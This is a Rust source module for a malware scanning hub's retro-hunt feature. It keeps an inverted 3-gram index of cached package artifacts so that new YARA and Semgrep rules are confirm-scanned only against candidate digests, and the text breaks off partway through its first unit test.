//! Retro-hunt: an inverted atom→digest index so new rules never rescan
//! the world.
//!
//! The paper's premise is a *growing* LLM-generated ruleset, and the
//! operation a registry gatekeeper performs most often is deploying a
//! handful of new rules against a package history it has already
//! scanned. The content-addressed artifact layer makes re-*parsing*
//! free, but a naive deploy still confirm-scans every cached digest.
//! This module adds the VirusTotal-retrohunt shape: a posting index
//! from prefilter-atom evidence to the content digests whose artifacts
//! carry it, so a rule deploy touches only candidate digests. No request
//! pays for it: each hunt first brings the index up to the resident
//! artifacts, dropping the evicted digests and indexing the new ones.
//!
//! # Index shape
//!
//! Postings are keyed by folded (ASCII-lowercase) 3-grams of artifact
//! content rather than by whole interned atoms, and split by
//! provenance: grams of the raw file bytes land in the *surface* list,
//! grams of decoded payload layers in the *layer* list. An atom query
//! intersects the posting lists of the atom's own 3-grams — any
//! occurrence of the atom inside one scan unit contains every one of
//! its 3-grams, so the intersection is a sound over-approximation of
//! "digests whose content can contain this atom", and it answers for
//! atoms the index has *never seen before* (the whole point of a rule
//! deploy). An atom shorter than the gram width cannot be gated, so its
//! rule falls back to full candidacy, as a rule without an exhaustive
//! atom set does. A 3-gram finds its term through an open-addressed
//! table, and every posting list is a chain of fixed-size blocks in one
//! arena (see [`RetroIndex`]).
//!
//! # Verdict semantics
//!
//! [`crate::ScanHub::retro_hunt`] confirm-scans each candidate digest
//! with exactly the changed rules, masked per digest by a row of [`Tasks`],
//! through the evaluator a hub worker scans requests with (surface bytes
//! at offset zero, each decoded layer as its own unit, Semgrep over the
//! cached module), and normalizes each flagged digest's [`Verdict`].
//! Candidacy follows the units each engine `reads`, as routing does. The
//! differential suite pins `retro_hunt` ≡ `retro_rescan` (the exhaustive
//! oracle), and the confirm scan against a full hub scan restricted to
//! the changed rules.

use std::collections::HashMap;
use std::sync::Arc;

use semgrep_engine::CompiledSemgrepRules;
use yara_engine::{CompiledRules, FileHits, Part};

use crate::artifact::FileAnalysis;
use crate::cache::{ArtifactCache, DigestKey};
use crate::metrics::{HubCounters, HubTelemetry, Stage, StageClock};
use crate::prefilter::{ChangedRule, RuleDelta, RuleEngine};
use crate::store::ArtifactStore;
use crate::verdict::Verdict;
use crate::worker::Evaluator;

/// Width of the indexed content grams. Three bytes keeps the posting
/// map small enough to live beside the artifact cache while still
/// discriminating sharply for real IOC-length atoms.
pub(crate) const GRAM_LEN: usize = 3;

/// Where indexed evidence for a digest was observed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TermProvenance {
    /// The raw file bytes.
    Surface,
    /// A decoded payload layer (base64/hex recursion).
    Layer,
}

/// No block, or no slot: the end of a posting chain, and a vacant
/// [`GramTable`] entry (no packed 3-gram reaches it).
const NIL: u32 = u32::MAX;

/// Slots per posting block. With its link a block is 32 bytes, and most
/// grams are posted by few digests, so a list is usually one block.
const BLOCK_SLOTS: usize = 7;

/// A run of one posting list's slots.
#[derive(Debug, Clone, Copy)]
struct Block {
    slots: [u32; BLOCK_SLOTS],
    /// The list's next block, or `NIL`.
    next: u32,
}

/// One term's posting list in one provenance: `len` ascending slots in a
/// chain of arena blocks from `head` to `tail` (neither read while `len`
/// is 0).
#[derive(Debug, Clone, Copy, Default)]
struct List {
    head: u32,
    tail: u32,
    len: u32,
}

/// A term's posting lists, indexed by `TermProvenance as usize`.
type Term = [List; 2];

/// Blocks per arena chunk: 64 KiB.
const CHUNK_BLOCKS: usize = 2048;

/// Every posting list of an index, as chained fixed-size blocks in
/// fixed-size chunks: posting a slot writes one word, or takes one block.
/// A full chunk is never copied; the arena grows by allocating the next.
#[derive(Debug, Default)]
struct Arena {
    /// `CHUNK_BLOCKS`-capacity runs of blocks: the full ones, the one
    /// being filled, and any emptied by [`Arena::clear`].
    chunks: Vec<Vec<Block>>,
    /// Blocks taken; block `b` is `chunks[b / CHUNK_BLOCKS][b % CHUNK_BLOCKS]`.
    len: u32,
}

impl Arena {
    fn block(&self, b: u32) -> &Block {
        &self.chunks[b as usize / CHUNK_BLOCKS][b as usize % CHUNK_BLOCKS]
    }

    fn block_mut(&mut self, b: u32) -> &mut Block {
        &mut self.chunks[b as usize / CHUNK_BLOCKS][b as usize % CHUNK_BLOCKS]
    }

    /// Appends `slot`, which exceeds every slot already in `list`.
    fn push(&mut self, list: &mut List, slot: u32) {
        let at = list.len as usize % BLOCK_SLOTS;
        if at == 0 {
            let fresh = self.len;
            let chunk = fresh as usize / CHUNK_BLOCKS;
            if chunk == self.chunks.len() {
                self.chunks.push(Vec::with_capacity(CHUNK_BLOCKS));
            }
            self.chunks[chunk].push(Block {
                slots: [0; BLOCK_SLOTS],
                next: NIL,
            });
            self.len += 1;
            if list.len == 0 {
                list.head = fresh;
            } else {
                self.block_mut(list.tail).next = fresh;
            }
            list.tail = fresh;
        }
        let block = self.block_mut(list.tail);
        debug_assert!(at == 0 || block.slots[at - 1] < slot, "lists stay sorted");
        block.slots[at] = slot;
        list.len += 1;
    }

    /// `list`'s slots, ascending.
    fn slots(&self, list: List) -> impl Iterator<Item = u32> + '_ {
        let first = (list.len > 0).then_some(list.head);
        let chain = std::iter::successors(first, |&b| {
            Some(self.block(b).next).filter(|&next| next != NIL)
        });
        chain
            .flat_map(|b| self.block(b).slots)
            .take(list.len as usize)
    }

    /// Frees every block, keeping the chunks for the next pushes.
    fn clear(&mut self) {
        self.chunks.iter_mut().for_each(Vec::clear);
        self.len = 0;
    }
}

/// Open-addressed map from packed 3-gram to term: linear probing from a
/// multiplicative hash, at most half full. Entries are never removed one
/// at a time; a compaction renumbers the table whole.
#[derive(Debug, Default)]
struct GramTable {
    /// `(packed gram, term)`; a vacant entry is `(NIL, 0)`.
    entries: Vec<(u32, u32)>,
    len: usize,
}

impl GramTable {
    /// Capacity of the first table an insert allocates.
    const MIN_ENTRIES: usize = 1 << 10;

    /// The index of `gram`'s entry, or of the vacant entry it would take.
    fn find(&self, gram: u32) -> usize {
        let mask = self.entries.len() - 1;
        let shift = 32 - self.entries.len().trailing_zeros();
        let mut at = (gram.wrapping_mul(0x9E37_79B9) >> shift) as usize;
        while self.entries[at].0 != gram && self.entries[at].0 != NIL {
            at = (at + 1) & mask;
        }
        at
    }

    /// `gram`'s term, 0 when it has none.
    fn get(&self, gram: u32) -> u32 {
        if self.entries.is_empty() {
            return 0;
        }
        self.entries[self.find(gram)].1
    }

    /// `gram`'s term, entered as 0 when it has none.
    fn entry(&mut self, gram: u32) -> &mut u32 {
        if 2 * (self.len + 1) > self.entries.len() {
            let entries = (2 * self.entries.len()).max(Self::MIN_ENTRIES);
            self.rehash(entries, |term| term);
        }
        let at = self.find(gram);
        if self.entries[at].0 == NIL {
            self.entries[at].0 = gram;
            self.len += 1;
        }
        &mut self.entries[at].1
    }

    /// Rebuilds the table with `entries` entries, mapping every term
    /// through `renumber` and dropping the grams it maps to 0.
    fn rehash(&mut self, entries: usize, renumber: impl Fn(u32) -> u32) {
        let old = std::mem::replace(&mut self.entries, vec![(NIL, 0); entries]);
        self.len = 0;
        for (gram, term) in old {
            let term = renumber(term);
            if term != 0 {
                let at = self.find(gram);
                self.entries[at] = (gram, term);
                self.len += 1;
            }
        }
    }
}

/// Posts `slot` to the `provenance` list of term `*id`, first creating the
/// term when `*id` is 0.
fn post(terms: &mut Vec<Term>, arena: &mut Arena, id: &mut u32, prov: TermProvenance, slot: u32) {
    if *id == 0 {
        *id = terms.len() as u32;
        terms.push(Term::default());
    }
    arena.push(&mut terms[*id as usize][prov as usize], slot);
}

/// The inverted content index: folded 3-gram → digest slots, tagged by
/// provenance. Kept under the artifact store's retro lock and synced to
/// the resident artifacts there, before each hunt reads it
/// ([`RetroIndex::diff`], [`RetroIndex::sync`]).
///
/// Slots are handed out in ascending order and never reused before a
/// compaction, which renumbers the live ones densely in the same order,
/// so every posting list is sorted by construction. A gram finds its term
/// through the [`GramTable`]; a term's two lists are block chains in one
/// [`Arena`].
#[derive(Debug)]
pub(crate) struct RetroIndex {
    /// Slot → (digest, analyzed-as-python) for live digests; `None`
    /// marks a tombstone awaiting compaction.
    slots: Vec<Option<(DigestKey, bool)>>,
    by_digest: HashMap<DigestKey, u32>,
    /// Term → posting lists. Term 0 has none: it is every gram no digest
    /// has posted.
    terms: Vec<Term>,
    /// Packed 3-gram → term.
    triples: GramTable,
    arena: Arena,
    /// Tombstones not yet swept from the posting lists.
    dead: usize,
}

/// Words of the presence bitmap: one bit per packed 3-gram (2 MiB).
const SEEN3_WORDS: usize = (1 << (8 * GRAM_LEN)) / 64;

/// Sets bit `key`; true when it was clear.
fn first_sighting(seen: &mut [u64], key: usize) -> bool {
    let (word, bit) = (key >> 6, 1u64 << (key & 63));
    let fresh = seen[word] & bit == 0;
    seen[word] |= bit;
    fresh
}

/// The distinct folded 3-grams of one provenance, as big-endian packed
/// keys in first-sighting order.
#[derive(Debug, Default)]
struct GramSet {
    g3: Vec<u32>,
}

impl GramSet {
    /// One pass over one scan unit, adding the grams whose presence bit
    /// is still clear. The rolling key restarts per unit, so no window
    /// crosses a layer boundary.
    fn scan(&mut self, data: &[u8], seen3: &mut [u64]) {
        let mut key = 0usize;
        for (i, &b) in data.iter().enumerate() {
            key = (key << 8 | b.to_ascii_lowercase() as usize) & 0xFF_FFFF;
            if i >= 2 && first_sighting(seen3, key) {
                self.g3.push(key as u32);
            }
        }
    }

    /// Zeroes every bitmap word this set marked, keeping the list.
    fn unmark(&self, seen3: &mut [u64]) {
        for &k in &self.g3 {
            seen3[k as usize >> 6] = 0;
        }
    }
}

/// Gram collector: one rolling pass per scan unit folds each byte once
/// and records a gram the first time its presence bit is found clear.
/// The bitmap is zeroed when the scratch is made and all-zero between
/// collections — cleared by walking the first-sighting lists, never by
/// `fill` — so a collection allocates nothing once the lists have grown,
/// and transient memory is the fixed bitmap plus at most min(unit bytes,
/// 2^24) keys per list.
#[derive(Debug)]
pub(crate) struct GramScratch {
    seen3: Vec<u64>,
    /// Identity of the collected artifact, posted with its grams.
    digest: DigestKey,
    is_python: bool,
    surface: GramSet,
    layer: GramSet,
}

impl Default for GramScratch {
    /// A scratch with its 2 MiB bitmap zeroed (pages the first
    /// collections touch become resident).
    fn default() -> Self {
        GramScratch {
            seen3: vec![0; SEEN3_WORDS],
            digest: DigestKey::default(),
            is_python: false,
            surface: GramSet::default(),
            layer: GramSet::default(),
        }
    }
}

impl GramScratch {
    /// Collects the artifact's grams: `artifact.bytes` into the surface
    /// set, the union over `artifact.layers` into the layer set.
    pub(crate) fn collect(&mut self, artifact: &FileAnalysis) {
        let seen3 = &mut self.seen3[..];
        self.digest = artifact.digest;
        self.is_python = artifact.is_python;
        self.surface.g3.clear();
        self.surface.scan(&artifact.bytes, seen3);
        self.surface.unmark(seen3);
        self.layer.g3.clear();
        for layer in &artifact.layers {
            self.layer.scan(&layer.data, seen3);
        }
        self.layer.unmark(seen3);
    }
}

impl RetroIndex {
    pub(crate) fn new() -> Self {
        RetroIndex {
            slots: Vec::new(),
            by_digest: HashMap::new(),
            terms: vec![Term::default()],
            triples: GramTable::default(),
            arena: Arena::default(),
            dead: 0,
        }
    }

    /// Number of live digests.
    pub(crate) fn digest_count(&self) -> usize {
        self.by_digest.len()
    }

    /// Number of distinct indexed terms (folded 3-grams with at least
    /// one posting).
    pub(crate) fn term_count(&self) -> usize {
        self.terms.len() - 1
    }

    /// Indexes the artifact `grams` was collected from, posting each
    /// distinct gram once. Idempotent: a digest already indexed is left
    /// untouched.
    pub(crate) fn insert_collected(&mut self, grams: &GramScratch) {
        if self.by_digest.contains_key(&grams.digest) {
            return;
        }
        let slot = self.slots.len() as u32;
        self.slots.push(Some((grams.digest, grams.is_python)));
        self.by_digest.insert(grams.digest, slot);

        let (terms, arena) = (&mut self.terms, &mut self.arena);
        let lists = [
            (&grams.surface, TermProvenance::Surface),
            (&grams.layer, TermProvenance::Layer),
        ];
        for (set, prov) in lists {
            for &g in &set.g3 {
                post(terms, arena, self.triples.entry(g), prov, slot);
            }
        }
    }

    /// Collect-and-insert through a fresh scratch.
    #[cfg(test)]
    pub(crate) fn insert_artifact(&mut self, artifact: &FileAnalysis) {
        let mut grams = GramScratch::default();
        grams.collect(artifact);
        self.insert_collected(&grams);
    }

    /// Drops a digest: its slot becomes a tombstone, filtered at query
    /// time until a compaction sweeps it.
    fn tombstone(&mut self, digest: &DigestKey) {
        let Some(slot) = self.by_digest.remove(digest) else {
            return;
        };
        self.slots[slot as usize] = None;
        self.dead += 1;
    }

    /// Sweeps the posting lists once tombstones outnumber live digests.
    fn compact_if_due(&mut self) {
        if self.dead > self.by_digest.len().max(32) {
            self.compact();
        }
    }

    /// What [`RetroIndex::sync`] needs to bring the index to `resident`:
    /// the indexed digests no longer resident, and the resident artifacts
    /// not yet indexed. Reads `resident` without touching its recency.
    pub(crate) fn diff(
        &self,
        resident: &ArtifactCache,
    ) -> (Vec<DigestKey>, Vec<Arc<FileAnalysis>>) {
        let indexed = self.by_digest.keys();
        let gone = indexed.filter(|d| resident.peek(d).is_none()).copied();
        let fresh = resident
            .values()
            .filter(|a| !self.by_digest.contains_key(&a.digest));
        (gone.collect(), fresh.cloned().collect())
    }

    /// Drops the `gone` digests, compacting at most once, then indexes the
    /// `fresh` artifacts in digest order, collecting each one's grams
    /// through `grams`.
    pub(crate) fn sync(
        &mut self,
        gone: &[DigestKey],
        mut fresh: Vec<Arc<FileAnalysis>>,
        grams: &mut GramScratch,
    ) {
        for digest in gone {
            self.tombstone(digest);
        }
        self.compact_if_due();
        fresh.sort_unstable_by_key(|artifact| artifact.digest);
        for artifact in &fresh {
            grams.collect(artifact);
            self.insert_collected(grams);
        }
    }

    /// Sweeps the tombstones: renumbers the live slots densely, in order,
    /// and rewrites every list without its dead slots into the emptied
    /// arena. A term left with no posting is dropped. The arena, the slot
    /// and term tables keep their capacity, so refilling them allocates
    /// nothing.
    fn compact(&mut self) {
        let mut renumbered = vec![NIL; self.slots.len()];
        let live_slots = self.slots.iter().enumerate().filter(|(_, s)| s.is_some());
        for (new, (old, _)) in live_slots.enumerate() {
            renumbered[old] = new as u32;
        }
        self.slots.retain(Option::is_some);
        for slot in self.by_digest.values_mut() {
            *slot = renumbered[*slot as usize];
        }

        // Every list's live postings, renumbered, list after list, and
        // each term's two list lengths.
        let mut live = Vec::new();
        let lens: Vec<[usize; 2]> = self.terms[1..]
            .iter()
            .map(|lists| {
                lists.map(|list| {
                    let before = live.len();
                    let slots = self.arena.slots(list).map(|s| renumbered[s as usize]);
                    live.extend(slots.filter(|&s| s != NIL));
                    live.len() - before
                })
            })
            .collect();
        self.arena.clear();
        let mut postings = live.into_iter();
        // Old term → new term, 0 for a dropped one (and for term 0).
        let mut term_ids = vec![0u32; self.terms.len()];
        let mut kept = 1;
        for (old, lens) in lens.into_iter().enumerate() {
            let mut term = Term::default();
            for (list, len) in term.iter_mut().zip(lens) {
                for slot in postings.by_ref().take(len) {
                    self.arena.push(list, slot);
                }
            }
            if term.iter().any(|list| list.len > 0) {
                term_ids[old + 1] = kept as u32;
                self.terms[kept] = term;
                kept += 1;
            }
        }
        self.terms.truncate(kept);
        let entries = self.triples.entries.len();
        self.triples.rehash(entries, |term| term_ids[term as usize]);
        self.dead = 0;
    }

    /// Every live digest, with its python flag.
    pub(crate) fn all_digests(&self) -> Vec<(DigestKey, bool)> {
        self.slots.iter().flatten().copied().collect()
    }

    /// Candidate digests that can contain `atom` (folded text) with the
    /// given provenance; `None` for an atom shorter than the gram width,
    /// which no posting gates (the caller must fall back to full
    /// candidacy).
    pub(crate) fn candidates_for_atom(
        &self,
        atom: &str,
        provenance: TermProvenance,
    ) -> Option<Vec<(DigestKey, bool)>> {
        if atom.len() < GRAM_LEN {
            return None;
        }
        let folded: Vec<u8> = atom.bytes().map(|b| b.to_ascii_lowercase()).collect();
        let mut lists: Vec<List> = folded
            .windows(GRAM_LEN)
            .map(|w| self.triples.get(u32::from_be_bytes([0, w[0], w[1], w[2]])))
            .map(|term| self.terms[term as usize][provenance as usize])
            .collect();
        lists.sort_by_key(|l| l.len);
        let mut acc: Vec<u32> = self.arena.slots(lists[0]).collect();
        for &other in &lists[1..] {
            if acc.is_empty() {
                break;
            }
            // Both sides ascend: one merge pass keeps the common slots.
            let mut postings = self.arena.slots(other).peekable();
            acc.retain(|&s| {
                while postings.next_if(|&p| p < s).is_some() {}
                postings.next_if_eq(&s).is_some()
            });
        }
        Some(
            acc.into_iter()
                .filter_map(|s| self.slots[s as usize])
                .collect(),
        )
    }
}

/// One rule deploy packaged for retro-hunting: the index-level diff
/// plus subset rulesets holding only the changed rules, so a confirm
/// scan evaluates nothing that did not change.
#[derive(Debug)]
pub struct RuleDeployment {
    /// Exactly which rules are new or changed, and which atoms the new
    /// index had never interned.
    pub delta: RuleDelta,
    /// Subset compiled ruleset of the changed YARA rules, in
    /// `delta.changed` order.
    pub(crate) yara: Option<CompiledRules>,
    /// Subset compiled ruleset of the changed Semgrep rules, in
    /// `delta.changed` order.
    pub(crate) semgrep: Option<CompiledSemgrepRules>,
}

impl RuleDeployment {
    pub(crate) fn build(
        delta: RuleDelta,
        yara: Option<&CompiledRules>,
        semgrep: Option<&CompiledSemgrepRules>,
    ) -> Self {
        // One engine's changed rules, in delta order; `None` for none.
        fn subset<R: Clone>(delta: &RuleDelta, engine: RuleEngine, all: &[R]) -> Option<Vec<R>> {
            let changed = delta.changed.iter().filter(|c| c.engine == engine);
            let rules: Vec<R> = changed.map(|c| all[c.index].clone()).collect();
            (!rules.is_empty()).then_some(rules)
        }
        let yara = yara.and_then(|all| subset(&delta, RuleEngine::Yara, &all.rules));
        let semgrep = semgrep.and_then(|all| subset(&delta, RuleEngine::Semgrep, &all.rules));
        RuleDeployment {
            yara: yara.map(|rules| CompiledRules { rules }),
            semgrep: semgrep.map(|rules| CompiledSemgrepRules { rules }),
            delta,
        }
    }

    /// True when nothing changed — a retro-hunt would scan nothing.
    pub fn is_empty(&self) -> bool {
        self.delta.changed.is_empty()
    }

    /// The number of changed YARA rules, and of changed rules: a mask
    /// row's YARA part and its width.
    fn widths(&self) -> (usize, usize) {
        let yara = self.yara.as_ref().map_or(0, |r| r.rules.len());
        let semgrep = self.semgrep.as_ref().map_or(0, |r| r.rules.len());
        (yara, yara + semgrep)
    }
}

/// A hunt's confirm scans: each digest to scan with the row of `masks`
/// that says which changed rules to evaluate on it.
#[derive(Debug)]
struct Tasks {
    /// `(digest, row)`, in digest order.
    digests: Vec<(DigestKey, u32)>,
    /// The rows back to back, each over the deployment's changed rules
    /// ([`RuleDeployment::widths`]): its YARA subset, then its Semgrep
    /// subset.
    masks: Vec<bool>,
}

/// Hits for one changed rule across the package history.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetroRuleHits {
    /// Which engine the rule belongs to.
    pub engine: RuleEngine,
    /// The rule's name (YARA rule name / Semgrep rule id).
    pub rule: String,
    /// How many digests the index nominated for this rule.
    pub candidates: u64,
    /// Hex digests the rule matched (surface, Semgrep, or decoded
    /// layer), sorted.
    pub digests: Vec<String>,
}

impl RetroRuleHits {
    /// The rule before its confirm scans: nominated, nothing confirmed.
    fn unconfirmed(rule: &ChangedRule, candidates: usize) -> Self {
        RetroRuleHits {
            engine: rule.engine,
            rule: rule.name.clone(),
            candidates: candidates as u64,
            digests: Vec::new(),
        }
    }
}

/// The result of one retro-hunt (or of the exhaustive rescan oracle).
#[derive(Debug, Clone, Default)]
pub struct RetroReport {
    /// Per changed rule, in delta order: candidates and confirmed hits.
    pub rules: Vec<RetroRuleHits>,
    /// Each flagged digest, in hex, with its verdict restricted to the
    /// changed rules, sorted by digest. A layer finding's `file` is the
    /// hex digest (a retro-hunt sees content, not the upload names that
    /// referenced it); `flows` is empty.
    pub verdicts: Vec<(String, Verdict)>,
    /// Digests resident in the index when the hunt ran; for the rescan,
    /// the digests resident in the artifact store.
    pub digests_indexed: u64,
    /// Total per-rule candidate nominations (a digest nominated by two
    /// rules counts twice).
    pub candidates: u64,
    /// Distinct digests confirm-scanned.
    pub confirm_scans: u64,
    /// Surface and layer bytes the confirm scans handed to a string scan.
    pub bytes_scanned: u64,
    /// Changed rules that fell back to full candidacy (no exhaustive
    /// atom set: regex-only or always-on rules; or an atom shorter than a
    /// 3-gram).
    pub full_candidacy_rules: u64,
}

impl RetroReport {
    /// True when `other` confirms the same per-rule hit sets and the
    /// same per-digest verdicts — candidate/scan *counts* are allowed
    /// to differ (that is the speedup), the findings are not.
    pub fn same_hits(&self, other: &RetroReport) -> bool {
        self.rules.len() == other.rules.len()
            && self
                .rules
                .iter()
                .zip(&other.rules)
                .all(|(a, b)| a.engine == b.engine && a.rule == b.rule && a.digests == b.digests)
            && self.verdicts == other.verdicts
    }

    /// Total confirmed (rule, digest) hit pairs.
    pub fn total_hits(&self) -> usize {
        self.rules.iter().map(|r| r.digests.len()).sum()
    }
}

/// Confirm-scans each task's digest (in digest order) with the
/// deployment's subset rulesets, strictly gated per rule — a rule is
/// evaluated on a digest only if that digest was nominated for it, which
/// keeps the differential proof against the exhaustive oracle sharp —
/// and completes `report`, whose rules carry their candidate counts.
/// A changed string that `live`, the bundle the artifacts' hits came
/// from, defines identically is read from those hits; a digest's bytes
/// are read only when its mask enables a rule with another string. The
/// rescan passes no `live` bundle and reads every byte.
/// Entered and left [`Stage::Idle`]; each scan is one `retro_confirm`
/// lap of `clock`.
fn confirm_scan(
    deployment: &RuleDeployment,
    live: Option<&CompiledRules>,
    tasks: Tasks,
    mut report: RetroReport,
    store: &ArtifactStore,
    clock: &mut StageClock<'_>,
) -> RetroReport {
    let (yara, semgrep) = (deployment.yara.as_ref(), deployment.semgrep.as_ref());
    let mut eval = Evaluator::new(yara, semgrep, live);
    let (yara_width, width) = deployment.widths();
    for &(digest, row) in &tasks.digests {
        let row = row as usize * width;
        let (yara_mask, semgrep_mask) = tasks.masks[row..row + width].split_at(yara_width);
        // A digest evicted between index query and confirm is simply
        // gone from the history — nothing to report on it. A peek: the
        // hunt must not keep its candidates alive in the serving cache.
        let Some(artifact) = store.peek(&digest) else {
            continue;
        };
        clock.lap(Stage::RetroConfirm);
        report.confirm_scans += 1;
        let mut verdict = Verdict::default();
        if yara_mask.contains(&true) {
            // A unit's hits: its cached live ones, translated, plus the
            // residual strings' when an enabled rule has one. Layer
            // findings are labelled once the verdict is flagged.
            let read = eval.reads_bytes(yara_mask);
            if read {
                let layers = artifact.layers.iter().map(|l| l.data.len());
                report.bytes_scanned += (artifact.bytes.len() + layers.sum::<usize>()) as u64;
            }
            let own = read.then(|| eval.collect_hits(&artifact.bytes));
            let hits = unit_hits(live.and(artifact.yara_hits.as_ref()), own.as_ref());
            let len = artifact.bytes.len();
            eval.surface(hits, len, yara_mask, &mut verdict.yara);
            for (i, layer) in artifact.layers.iter().enumerate() {
                let own = read.then(|| eval.collect_hits(&layer.data));
                let hits = unit_hits(live.and(artifact.layer_hits.get(i)), own.as_ref());
                eval.layer(layer, hits, "", yara_mask, &mut verdict.layers);
            }
        }
        let module = artifact.module.as_ref().map(|m| m.get());
        let module = module.filter(|_| semgrep_mask.contains(&true));
        eval.semgrep(module, semgrep_mask, &mut verdict.semgrep);
        verdict.normalize();
        // Only a flagged verdict renders its digest.
        let hex = verdict.flagged().then(|| {
            let hex = digest::to_hex(&digest);
            for finding in &mut verdict.layers {
                finding.file.clone_from(&hex);
            }
            hex
        });
        clock.lap(Stage::Idle);
        if let Some(hex) = hex {
            report.verdicts.push((hex, verdict));
        }
    }
    // Digest order is hex order, so each rule's digests come out sorted.
    for hits in &mut report.rules {
        let fired = |v: &Verdict| match hits.engine {
            RuleEngine::Yara => {
                v.yara.binary_search(&hits.rule).is_ok()
                    || v.layers.iter().any(|l| l.rule == hits.rule)
            }
            RuleEngine::Semgrep => v.semgrep.binary_search(&hits.rule).is_ok(),
        };
        let flagged = report.verdicts.iter().filter(|(_, v)| fired(v));
        hits.digests = flagged.map(|(hex, _)| hex.clone()).collect();
    }
    report.candidates = report.rules.iter().map(|r| r.candidates).sum();
    report
}

/// A unit's hits at offset 0: the cached live ones and the residual scan's.
fn unit_hits<'h>(
    cached: Option<&'h FileHits>,
    own: Option<&'h FileHits>,
) -> impl Iterator<Item = Part<'h>> + Clone {
    let parts = [
        cached.map(|h| Part::Live(0, h)),
        own.map(|h| Part::Own(0, h)),
    ];
    parts.into_iter().flatten()
}

/// Per-digest confirm tasks for the deployment's changed rules, from the
/// index's candidates, and the report they will complete.
fn plan(retro: &RetroIndex, deployment: &RuleDeployment) -> (Tasks, RetroReport) {
    let changed = &deployment.delta.changed;
    let mut report = RetroReport {
        rules: Vec::with_capacity(changed.len()),
        digests_indexed: retro.digest_count() as u64,
        ..RetroReport::default()
    };
    let (yara_width, width) = deployment.widths();
    // Every candidacy, `(digest, the rule's column in a mask row)`.
    let mut marks: Vec<(DigestKey, u32)> = Vec::new();
    // Per engine, the position of the next changed rule in its subset
    // ruleset, which holds them in delta order.
    let mut next = [0, yara_width];
    for rule in changed {
        let column = next[rule.engine as usize] as u32;
        next[rule.engine as usize] += 1;
        // Candidates: the union over the rule's atoms (any-of semantics)
        // and the units its engine reads. An exhaustive rule without atoms
        // can never match (`condition: false`): none. `None` — no
        // exhaustive atom set, or an atom shorter than a 3-gram — is full
        // candidacy.
        let mut gated = rule.exhaustive.then(HashMap::new);
        for atom in &rule.atoms {
            for provenance in [TermProvenance::Surface, TermProvenance::Layer] {
                if !rule.engine.reads(provenance, true) {
                    continue; // a unit the engine reads in no file
                }
                let Some(acc) = gated.as_mut() else { break };
                match retro.candidates_for_atom(atom, provenance) {
                    Some(mut list) => {
                        list.retain(|&(_, python)| rule.engine.reads(provenance, python));
                        acc.extend(list);
                    }
                    None => gated = None,
                }
            }
        }
        let before = marks.len();
        match gated {
            Some(acc) => marks.extend(acc.into_keys().map(|digest| (digest, column))),
            None => {
                report.full_candidacy_rules += 1;
                // Every unit an engine reads lies in a file whose bytes it reads.
                let all = retro.all_digests().into_iter();
                let read =
                    all.filter(|&(_, python)| rule.engine.reads(TermProvenance::Surface, python));
                marks.extend(read.map(|(digest, _)| (digest, column)));
            }
        }
        let hits = RetroRuleHits::unconfirmed(rule, marks.len() - before);
        report.rules.push(hits);
    }
    // One row per candidate digest, its rules' columns set.
    marks.sort_unstable();
    let per_digest = || marks.chunk_by(|a, b| a.0 == b.0);
    let rows = per_digest().count();
    let mut tasks = Tasks {
        digests: Vec::with_capacity(rows),
        masks: vec![false; rows * width],
    };
    for (row, marks) in per_digest().enumerate() {
        tasks.digests.push((marks[0].0, row as u32));
        for &(_, column) in marks {
            tasks.masks[row * width + column as usize] = true;
        }
    }
    (tasks, report)
}

/// [`crate::ScanHub::retro_hunt`]: syncs the retro index (the
/// `retro_sync` lap), plans per-digest confirm tasks from it
/// (`retro_query`), then confirm-scans only those. `None` when the index
/// is disabled or retired.
pub(crate) fn hunt(
    store: &ArtifactStore,
    deployment: &RuleDeployment,
    live: Option<&CompiledRules>,
    counters: &HubCounters,
    telemetry: &HubTelemetry,
) -> Option<RetroReport> {
    // The caller's own tag is back as it was once this returns.
    let _tag = Stage::nested();
    let mut clock = StageClock::start(telemetry.histograms(), Stage::RetroSync);
    let query = |retro: &RetroIndex| plan(retro, deployment);
    let (tasks, report) = store.with_retro(&mut clock, Stage::RetroQuery, query)?;
    HubCounters::add(&counters.retro_hunts, 1);
    clock.lap(Stage::Idle);
    let report = confirm_scan(deployment, live, tasks, report, store, &mut clock);
    HubCounters::add(&counters.retro_candidates, report.candidates);
    HubCounters::add(&counters.retro_confirm_scans, report.confirm_scans);
    HubCounters::add(&counters.retro_confirm_bytes_scanned, report.bytes_scanned);
    Some(report)
}

/// [`crate::ScanHub::retro_rescan`]: every resident digest, listed by
/// the store and not by the retro index, against every changed rule, no
/// candidate query made, no clock read, no counter, histogram or artifact
/// recency touched.
pub(crate) fn rescan(store: &ArtifactStore, deployment: &RuleDeployment) -> RetroReport {
    let _tag = Stage::nested();
    let mut untimed = StageClock::start(None, Stage::Idle);
    let all = store.residents();
    let changed = &deployment.delta.changed;
    let hits = |rule| RetroRuleHits::unconfirmed(rule, all.len());
    let report = RetroReport {
        rules: changed.iter().map(hits).collect(),
        digests_indexed: all.len() as u64,
        full_candidacy_rules: changed.len() as u64,
        ..RetroReport::default()
    };
    // Every digest shares the one row that enables every rule.
    let mut digests: Vec<(DigestKey, u32)> = all.iter().map(|&d| (d, 0)).collect();
    digests.sort_unstable();
    let tasks = Tasks {
        digests,
        masks: vec![true; deployment.widths().1],
    };
    confirm_scan(deployment, None, tasks, report, store, &mut untimed)
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;
    use crate::artifact::ArtifactConfig;
    use crate::hub::tests::{hub, request, SEMGREP, YARA};
    use crate::request::FileEntry;
    use crate::{HubConfig, ScanRequest};

    fn analyze(name: &str, content: &[u8]) -> FileAnalysis {
        let entry = FileEntry::new(name, content.to_vec());
        FileAnalysis::build(&entry, None, &ArtifactConfig::default())
    }

    impl RetroIndex {
        /// Drops a digest as a sync of one eviction does: a tombstone,
        /// and a compaction when it is due.
        fn remove(&mut self, digest: &DigestKey) {
            self.tombstone(digest);
            self.compact_if_due();
        }
    }

    fn digests(hits: &[(DigestKey, bool)]) -> Vec<DigestKey> {
        let mut v: Vec<DigestKey> = hits.iter().map(|(d, _)| *d).collect();
        v.sort_unstable();
        v
    }

    #[test]
    fn atom_occurrence_is_always_a_candidate() {
        let mut index = RetroIndex::new();
        let a = analyze("a.py", b"import os\nos.system('id')\n");
        let b = analyze("b.py", b"print('hello world')\n");
        index.insert_artifact(&a);
        index.insert_artifact(&b);
        let hits = index
            .candidates_for_atom("os.system", TermProvenance::Surface)
            .expect("long atom is queryable");
        assert_eq!(digests(&hits), digests(&[(a.digest, true)]));
